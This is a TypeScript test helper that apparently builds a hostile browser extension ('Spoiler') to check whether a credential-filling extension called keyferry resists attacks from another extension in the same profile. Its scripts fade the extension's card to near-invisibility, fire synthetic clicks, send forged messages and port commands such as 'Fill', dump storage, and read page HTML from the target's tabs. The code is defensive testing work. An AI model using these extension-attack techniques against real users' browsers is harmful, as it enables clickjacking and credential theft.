/** A hostile extension in the same profile, with every right that a person may have given it on the portals. */
import { mkdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import type { Page } from "puppeteer-core";

/** Whom it is after. */
export type Prey = { id: string; origin: string };

/** Writes it into a folder, for one of the browsers. */
export function writeSpoiler(folder: string, kind: "chromium" | "firefox", matches: string[], messages: readonly string[]): void {
  mkdirSync(folder, { recursive: true });
  const manifest = {
    manifest_version: 3,
    name: "Spoiler",
    version: "1",
    permissions: ["storage", "tabs", "scripting", "management"],
    host_permissions: matches,
    content_scripts: [{ matches, js: ["content.js"], all_frames: true, run_at: "document_start" }],
    background: kind === "chromium" ? { service_worker: "background.js" } : { scripts: ["background.js"] },
    browser_specific_settings: { gecko: { id: "spoiler@keyferry.example" } },
  };
  writeFileSync(join(folder, "manifest.json"), JSON.stringify(manifest));
  writeFileSync(join(folder, "content.js"), `(${inPage.toString()})(${JSON.stringify(messages)});`);
  writeFileSync(join(folder, "background.js"), `(${inBackground.toString()})(${JSON.stringify(messages)});`);
}

/** Lets it loose on a page; gives all that it got hold of, and how many attempts it made. */
export async function spoil(page: Page, prey: Prey): Promise<{ spoils: string; attempts: number }> {
  const said = await page.evaluate(
    (prey) =>
      new Promise<string>((done) => {
        addEventListener("spoiled", (event) => done((event as CustomEvent<string>).detail), { once: true });
        dispatchEvent(new CustomEvent("spoil", { detail: JSON.stringify(prey) }));
      }),
    prey,
  );
  const { spoils, attempts } = JSON.parse(said) as { spoils: unknown[]; attempts: number };
  return { spoils: JSON.stringify(spoils), attempts };
}

/** Its content script. */
function inPage(messages: string[]): void {
  type Opener = { openOrClosedShadowRoot?: ShadowRoot | null };
  const api = (globalThis as { browser?: typeof chrome }).browser ?? chrome;
  const rootOf = (host: Element): ShadowRoot | null => (host as Opener).openOrClosedShadowRoot ?? (api as { dom?: { openOrClosedShadowRoot(host: HTMLElement): ShadowRoot | null } }).dom?.openOrClosedShadowRoot(host as HTMLElement) ?? null;
  const EVENTS = "pointerover pointerdown mousedown pointerup mouseup click dblclick touchstart touchend keydown keyup".split(" ");

  addEventListener("keyferry-fade", () => {
    const host = document.querySelector("keyferry-guide");
    const card = host && rootOf(host)?.querySelector<HTMLElement>(".inside");
    card?.style.setProperty("opacity", "0.001");
  });
  addEventListener("spoil", (event) => {
    const prey = JSON.parse((event as CustomEvent<string>).detail) as Prey;
    void (async () => {
      const spoils: unknown[] = [];
      let attempts = 0;
      // What may not be done fails in one browser by throwing, in the other by a promise.
      const attempt = async (act: () => Promise<unknown>): Promise<void> => {
        attempts += 1;
        try {
          const got = await act();
          if (got !== undefined) spoils.push(got);
        } catch {
          // Nothing to be had.
        }
      };
      const host = document.querySelector("keyferry-guide");
      const root = host && rootOf(host);
      spoils.push(root?.textContent ?? "no card");
      for (const button of root?.querySelectorAll("button") ?? []) {
        attempts += 2 + EVENTS.length;
        button.focus();
        button.click();
        for (const type of EVENTS) {
          const { left, top } = button.getBoundingClientRect();
          const init = { bubbles: true, cancelable: true, composed: true, clientX: left + 4, clientY: top + 4, detail: 1, key: "Enter", code: "Enter" };
          button.dispatchEvent(type.startsWith("key") ? new KeyboardEvent(type, init) : new MouseEvent(type, init));
        }
        button.blur();
      }
      for (const message of messages) await attempt(() => api.runtime.sendMessage<unknown, unknown>(prey.id, JSON.parse(message)));
      for (const area of ["local", "sync", "session"] as const) await attempt(() => api.storage[area].get(null));
      const more = await api.runtime.sendMessage<unknown, { spoils: unknown[]; attempts: number }>({ prey });
      dispatchEvent(new CustomEvent("spoiled", { detail: JSON.stringify({ spoils: [...spoils, ...more.spoils], attempts: attempts + more.attempts }) }));
    })();
  });
}

/** Its background. */
function inBackground(messages: string[]): void {
  const api = (globalThis as { browser?: typeof chrome }).browser ?? chrome;
  const FILES = ["manifest.json", "content.js", "background.js", "background_bg.wasm", "panel.html", "_locales/en/messages.json", "NOTICE.txt", "practice/marketo/index.html"];

  const prowl = async ({ id, origin }: Prey): Promise<{ spoils: unknown[]; attempts: number }> => {
    const spoils: unknown[] = [];
    let attempts = 0;
    const attempt = async (act: () => Promise<unknown>): Promise<void> => {
      attempts += 1;
      try {
        const got = await act();
        if (got !== undefined) spoils.push(got);
      } catch {
        // Nothing to be had.
      }
    };
    const tabs = await api.tabs.query({});
    for (const message of messages) {
      await attempt(() => api.runtime.sendMessage<unknown, unknown>(id, JSON.parse(message)));
      for (const { id: tab } of tabs) if (tab !== undefined) await attempt(() => api.tabs.sendMessage<unknown, unknown>(tab, JSON.parse(message)));
    }
    for (const name of ["panel", "page:d", "page:", ""]) {
      attempts += 1;
      const port = api.runtime.connect(id, { name });
      port.onMessage.addListener((got: unknown) => spoils.push(got));
      await new Promise<unknown>((done) => {
        port.onDisconnect.addListener(() => {
          // To be read, or the browser complains of it.
          done(api.runtime.lastError);
        });
        try {
          port.postMessage("Act");
          port.postMessage({ Press: { button: "Fill" } });
        } catch {
          done(undefined);
        }
        setTimeout(done, 300);
      });
    }
    for (const file of FILES) await attempt(async () => ((await fetch(origin + file)).ok ? `the file ${file}` : undefined));
    for (const area of ["local", "sync", "session"] as const) await attempt(() => api.storage[area].get(null));
    for (const { id: tabId, url } of tabs) {
      if (tabId === undefined || url?.startsWith(origin) !== true) continue;
      await attempt(() => api.scripting.executeScript({ target: { tabId }, func: () => document.documentElement.outerHTML }));
    }
    return { spoils, attempts };
  };
  api.runtime.onMessage.addListener((message: { prey?: Prey }, _, answer: (what: unknown) => void) => {
    if (!message.prey) return false;
    void prowl(message.prey).then(answer);
    return true;
  });
}
